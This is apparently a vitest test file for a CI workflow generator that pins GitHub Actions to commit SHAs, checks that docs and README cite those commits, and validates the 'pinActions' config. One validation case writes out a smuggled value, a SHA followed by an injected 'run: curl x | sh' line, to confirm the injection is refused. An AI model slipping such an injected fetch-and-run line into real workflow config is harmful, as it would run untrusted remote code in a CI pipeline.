import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, test } from 'vitest';
import { parse, stringify } from 'yaml';
import { parseConfig } from '../src/config/load.js';
import { CachedDeployError } from '../src/errors.js';
import {
  ACTION_RELEASES,
  ACTIONS,
  type ActionKey,
  actionRepository,
  BINFMT_IMAGE,
  BINFMT_RELEASE,
  pinnedUses,
} from '../src/model/actions.js';
import type { Workflow } from '../src/model/workflow.js';
import { renderFiles } from '../src/render/render-files.js';
import { actionlint, formatActionlintErrors } from './support/actionlint.js';
import { PROJECT_ROOT } from './support/temp-repo.js';

const KEYS = Object.keys(ACTIONS) as ActionKey[];
const USER_SHA = '0123456789abcdef0123456789abcdef01234567';

/**
 * A config that has every job (deploy, seed, apply, delete-branch) and an image built emulated
 * (QEMU), so every action appears.
 */
function configYaml(pinActions?: unknown): string {
  return stringify({
    aws: { accountId: '123456789012', region: 'eu-west-1' },
    github: { repository: 'acme/shop' },
    images: [
      { name: 'api', repository: 'acme/api' },
      {
        name: 'arm',
        repository: 'acme/arm',
        platforms: ['linux/amd64', 'linux/arm64'],
        build: 'emulated',
      },
    ],
    workflow: {
      deploy: { command: './deploy.sh', environment: 'production' },
      ...(pinActions === undefined ? {} : { pinActions }),
    },
  });
}

function workflowText(pinActions?: unknown): string {
  const [workflow] = renderFiles(parseConfig(configYaml(pinActions)), '0.1.0');
  if (!workflow?.path.endsWith('deploy.yml')) throw new Error('no workflow rendered');
  return workflow.content;
}

/** Every `uses:` line of the text: the reference and the comment after it, if any. */
function usesLines(text: string): { uses: string; comment: string | undefined }[] {
  return text
    .split('\n')
    .filter((line) => /^\s+(?:- )?uses:/.test(line))
    .map((line) => {
      const match = /^\s+(?:- )?uses: (\S+)(?: # (.*))?$/.exec(line);
      if (!match?.[1]) throw new Error(`unexpected uses line: ${line}`);
      return { uses: match[1], comment: match[2] };
    });
}

function allUses(workflow: Workflow): string[] {
  return Object.values(workflow.jobs).flatMap((job) =>
    job.steps.flatMap((step) => (step.uses ? [step.uses] : [])),
  );
}

const releaseOf = (repository: string) => {
  const key = KEYS.find((candidate) => actionRepository(candidate) === repository);
  if (!key) throw new Error(`${repository}: not in ACTIONS`);
  return ACTION_RELEASES[key];
};

describe('the table of shipped releases', () => {
  test('has exactly the actions of ACTIONS', () => {
    expect(Object.keys(ACTION_RELEASES).sort()).toEqual([...KEYS].sort());
  });

  test.each(KEYS)(
    '%s: a full vX.Y.Z tag in the major ACTIONS uses, a 40-hex commit, a date',
    (key) => {
      const release: { version: string; commit: string; readOn: string } = ACTION_RELEASES[key];
      const major = /@(v\d+)$/.exec(ACTIONS[key])?.[1];
      expect(major, ACTIONS[key]).toBeDefined();
      expect(release.version).toMatch(/^v\d+\.\d+\.\d+$/);
      expect(release.version.startsWith(`${major}.`), `${release.version} is in ${major}`).toBe(
        true,
      );
      expect(release.commit).toMatch(/^[0-9a-f]{40}$/);
      expect(release.readOn).toMatch(/^\d{4}-\d{2}-\d{2}$/);
      expect(new Date(`${release.readOn}T00:00:00Z`).toISOString().slice(0, 10)).toBe(
        release.readOn,
      );
    },
  );

  // The citations the commits come with: docs/actions.md (with where each was read, and when) and
  // the README must list exactly the commits the code pins.
  test('docs/actions.md cites every shipped commit: action, tag, commit, source, date read', () => {
    const [shipped, next, ...more] = tablesWith(
      readFileSync(join(PROJECT_ROOT, 'docs/actions.md'), 'utf8'),
      'commit',
    );
    expect(more).toEqual([]);
    const header = ['action', 'release', 'commit', 'read from', 'read on'];
    expect(shipped?.[0]).toEqual(header);
    expect(shipped?.slice(1)).toEqual(
      KEYS.map((key) => {
        const { version, commit, readOn } = ACTION_RELEASES[key];
        const repository = actionRepository(key);
        return [
          repository,
          version,
          commit,
          `https://github.com/${repository}/tree/${version}`,
          readOn,
        ];
      }),
    );
    // A second table, when there is one: read for later, so none of them may already be in use
    // (or it would be pinned without being in the first table).
    if (next !== undefined) expect(next[0]).toEqual(header);
    for (const [repository, version, commit, source, readOn] of next?.slice(1) ?? []) {
      expect(KEYS.map(actionRepository)).not.toContain(repository);
      expect(version).toMatch(/^v\d+\.\d+\.\d+$/);
      expect(commit).toMatch(/^[0-9a-f]{40}$/);
      expect(source).toBe(`https://github.com/${repository}/tree/${version}`);
      expect(readOn).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    }
  });

  test('the README lists the same commits', () => {
    const [rows = [], ...more] = tablesWith(
      readFileSync(join(PROJECT_ROOT, 'README.md'), 'utf8'),
      'commit',
    );
    expect(more).toEqual([]);
    expect(rows[0]).toEqual(['action', 'release', 'commit']);
    expect(rows.slice(1)).toEqual(
      KEYS.map((key) => [
        actionRepository(key),
        ACTION_RELEASES[key].version,
        ACTION_RELEASES[key].commit,
      ]),
    );
  });
});

describe('the binfmt image QEMU is installed from', () => {
  test('docs/actions.md cites it: image, release, commit, source, date read', () => {
    const [rows, ...more] = tablesWith(
      readFileSync(join(PROJECT_ROOT, 'docs/actions.md'), 'utf8'),
      'image',
    );
    expect(more).toEqual([]);
    expect(rows).toEqual([
      ['image', 'release', 'tagged commit', 'read from', 'read on'],
      [
        BINFMT_IMAGE,
        `${BINFMT_RELEASE.tag} (QEMU ${/qemu-(v[\d.]+)-\d+$/.exec(BINFMT_IMAGE)?.[1]})`,
        BINFMT_RELEASE.commit,
        `https://github.com/tonistiigi/binfmt/releases/tag/${encodeURIComponent(BINFMT_RELEASE.tag)}`,
        BINFMT_RELEASE.readOn,
      ],
    ]);
    // The release's own tag (`qemu-<version>-<run>`, what `deploy/<version>-<run>` pushes), never a
    // tag a later release moves (`latest`, `qemu-<version>`).
    expect(BINFMT_IMAGE).toBe(
      `tonistiigi/binfmt:qemu-${BINFMT_RELEASE.tag.slice('deploy/'.length)}`,
    );
  });

  test("both CIs install QEMU from it, GitHub through setup-qemu-action's image input", async () => {
    const text = workflowText();
    const workflow = parse(text) as Workflow;
    const qemu = Object.values(workflow.jobs).flatMap((job) =>
      job.steps.filter((step) => step.uses === ACTIONS.setupQemu),
    );
    expect(qemu.length).toBeGreaterThan(1);
    for (const step of qemu) {
      expect(step.with?.image).toBe(BINFMT_IMAGE);
      // The inputs of setup-qemu-action's action.yml at the pinned v4.2.0 (docs/actions.md):
      // actionlint knows only v3's, so a misspelt input would pass it unnoticed.
      for (const input of Object.keys(step.with ?? {})) {
        expect(['image', 'platforms', 'reset', 'cache-image']).toContain(input);
      }
    }
    expect(formatActionlintErrors(await actionlint(text, '.github/workflows/deploy.yml'))).toEqual(
      [],
    );
    const gitlab = stringify({
      ci: 'gitlab',
      aws: { accountId: '123456789012', region: 'eu-west-1' },
      gitlab: { project: 'acme/shop' },
      images: [
        {
          name: 'arm',
          repository: 'acme/arm',
          platforms: ['linux/amd64', 'linux/arm64'],
          build: 'emulated',
        },
      ],
    });
    const pipeline = renderFiles(parseConfig(gitlab), '0.1.0').find(
      (file) => file.path === '.gitlab-ci.yml',
    );
    const installs = (pipeline?.content ?? '')
      .split('\n')
      .filter((line) => line.includes('binfmt'))
      .map((line) => line.trim());
    // The build job and the seed job.
    expect(installs).toEqual([
      `docker run --privileged --rm ${BINFMT_IMAGE} --install arm64`,
      `docker run --privileged --rm ${BINFMT_IMAGE} --install arm64`,
    ]);
  });
});

describe('workflow.pinActions', () => {
  test('off by default: every action by its @vN tag, no comments; `false` is the same', () => {
    const text = workflowText();
    const lines = usesLines(text);
    expect(lines.length).toBeGreaterThan(0);
    for (const { uses, comment } of lines) {
      expect(Object.values(ACTIONS)).toContain(uses);
      expect(comment).toBeUndefined();
    }
    expect(workflowText(false)).toBe(text);
  });

  test('true: every uses is owner/name@<40 hex> # vX.Y.Z of the shipped release, and actionlint passes', async () => {
    const text = workflowText(true);
    const lines = usesLines(text);
    // Every action of the table appears (this config has every job).
    expect(new Set(lines.map(({ uses }) => uses.split('@')[0]))).toEqual(
      new Set(KEYS.map(actionRepository)),
    );
    for (const { uses, comment } of lines) {
      const [repository = '', ref] = uses.split('@');
      expect(ref, uses).toMatch(/^[0-9a-f]{40}$/);
      expect(comment, uses).toMatch(/^v\d+\.\d+\.\d+$/);
      expect({ ref, comment }).toEqual({
        ref: releaseOf(repository).commit,
        comment: releaseOf(repository).version,
      });
    }
    expect(formatActionlintErrors(await actionlint(text, '.github/workflows/deploy.yml'))).toEqual(
      [],
    );
  });

  test('pinning changes the uses references and nothing else', () => {
    const unpinned = parse(workflowText()) as Workflow;
    const pinned = parse(workflowText(true)) as Workflow;
    const tagOf = new Map(
      KEYS.map((key) => [`${actionRepository(key)}@${ACTION_RELEASES[key].commit}`, ACTIONS[key]]),
    );
    for (const job of Object.values(pinned.jobs)) {
      for (const step of job.steps) {
        if (step.uses) step.uses = tagOf.get(step.uses) ?? `not shipped: ${step.uses}`;
      }
    }
    expect(pinned).toEqual(unpinned);
    // Text: the same lines, apart from the uses lines.
    const others = (text: string) =>
      text.split('\n').filter((line) => !/^\s+(?:- )?uses:/.test(line));
    expect(others(workflowText(true))).toEqual(others(workflowText()));
  });

  test('a mapping pins the actions it names to those commits, and every other one to the shipped release', async () => {
    const text = workflowText({ 'actions/checkout': USER_SHA });
    const lines = usesLines(text);
    const checkouts = lines.filter(({ uses }) => uses.startsWith('actions/checkout@'));
    expect(checkouts.length).toBeGreaterThan(1);
    for (const { uses, comment } of checkouts) {
      expect(uses).toBe(`actions/checkout@${USER_SHA}`);
      // The version of the user's own commit is not known here: no comment rather than a wrong one.
      expect(comment).toBeUndefined();
    }
    const others = lines.filter(({ uses }) => !uses.startsWith('actions/checkout@'));
    expect(others.length).toBeGreaterThan(0);
    for (const { uses, comment } of others) {
      const repository = uses.split('@')[0] ?? '';
      expect(uses).toBe(`${repository}@${releaseOf(repository).commit}`);
      expect(comment).toBe(releaseOf(repository).version);
    }
    expect(formatActionlintErrors(await actionlint(text, '.github/workflows/deploy.yml'))).toEqual(
      [],
    );
  });

  test('a mapping naming the shipped commit gets its version comment; an empty mapping is `true`', () => {
    const shipped = ACTION_RELEASES.bake.commit;
    expect(workflowText({ 'docker/bake-action': shipped })).toBe(workflowText(true));
    expect(workflowText({})).toBe(workflowText(true));
  });

  test.each<[string, unknown, string, RegExp]>([
    [
      'an action the workflow does not use',
      { 'actions/setup-node': USER_SHA },
      'workflow.pinActions.actions/setup-node',
      /not an action the workflow uses \(known: actions\/checkout, aws-actions\/configure-aws-credentials, /,
    ],
    [
      'an action named by its tag',
      { 'actions/checkout@v5': USER_SHA },
      'workflow.pinActions.actions/checkout@v5',
      /not an action the workflow uses/,
    ],
    [
      'a tag',
      { 'actions/checkout': 'v5.1.0' },
      'workflow.pinActions.actions/checkout',
      /"v5\.1\.0" is not a full commit SHA/,
    ],
    [
      'a short SHA',
      { 'docker/bake-action': USER_SHA.slice(0, 12) },
      'workflow.pinActions.docker/bake-action',
      /is not a full commit SHA \(40 lowercase hex digits/,
    ],
    [
      'an uppercase SHA',
      { 'aws-actions/amazon-ecr-login': USER_SHA.toUpperCase() },
      'workflow.pinActions.aws-actions/amazon-ecr-login',
      /is not a full commit SHA/,
    ],
    [
      '41 hex digits',
      { 'actions/checkout': `${USER_SHA}0` },
      'workflow.pinActions.actions/checkout',
      /is not a full commit SHA/,
    ],
    [
      'a SHA with a trailing newline',
      { 'actions/checkout': `${USER_SHA}\n` },
      'workflow.pinActions.actions/checkout',
      /is not a full commit SHA/,
    ],
    [
      'a SHA followed by an injected key',
      { 'actions/checkout': `${USER_SHA}\n  run: curl x | sh` },
      'workflow.pinActions.actions/checkout',
      /is not a full commit SHA/,
    ],
    [
      'a number',
      { 'actions/checkout': 12345 },
      'workflow.pinActions.actions/checkout',
      /non-empty string/,
    ],
    [
      'a string',
      'yes',
      'workflow.pinActions',
      /expected true, false or a mapping from action to commit SHA, got string "yes"/,
    ],
    ['a list', [USER_SHA], 'workflow.pinActions', /expected true, false or a mapping/],
  ])('refuses %s with one line naming the field', (_what, pinActions, path, mentions) => {
    let error: unknown;
    try {
      parseConfig(configYaml(pinActions));
    } catch (caught) {
      error = caught;
    }
    expect(error).toBeInstanceOf(CachedDeployError);
    const { code, message } = error as CachedDeployError;
    expect(code).toBe('CONFIG_INVALID');
    expect(message.startsWith(`cached-deploy.yml: ${path}: `), message).toBe(true);
    expect(message).toMatch(mentions);
    expect(message.split('\n')[0], 'one line').toBe(message);
  });

  test('every uses of the model is an action of the table (anything else is refused)', () => {
    const workflow = parse(workflowText()) as Workflow;
    for (const uses of allUses(workflow)) expect(pinnedUses(uses, false)).toBe(uses);
    expect(() => pinnedUses('actions/setup-node@v4', false)).toThrow(/not an action of the table/);
    expect(() => pinnedUses(`actions/checkout@${USER_SHA}`, false)).toThrow(
      /not an action of the table/,
    );
  });
});

// mdast node types, without a dependency on @types/mdast.
type Root = ReturnType<typeof fromMarkdown>;
type Node = Root['children'][number] | Root;
type Parent = Node & { children: Node[] };

function nodeText(node: Node): string {
  if ('value' in node && typeof node.value === 'string') return node.value;
  return ((node as Parent).children ?? []).map(nodeText).join('');
}

/** The rows (header first) of each table of `markdown` whose header has a `column` cell. */
function tablesWith(markdown: string, column: string): string[][][] {
  const tree = fromMarkdown(markdown, {
    extensions: [gfm()],
    mdastExtensions: [gfmFromMarkdown()],
  });
  const tables: Parent[] = [];
  const walk = (node: Node) => {
    if (node.type === 'table') tables.push(node as Parent);
    for (const child of (node as Parent).children ?? []) walk(child);
  };
  walk(tree);
  const rowsOf = (table: Parent) =>
    table.children.map((row) => (row as Parent).children.map((cell) => nodeText(cell).trim()));
  return tables.map(rowsOf).filter((rows) => rows[0]?.includes(column));
}
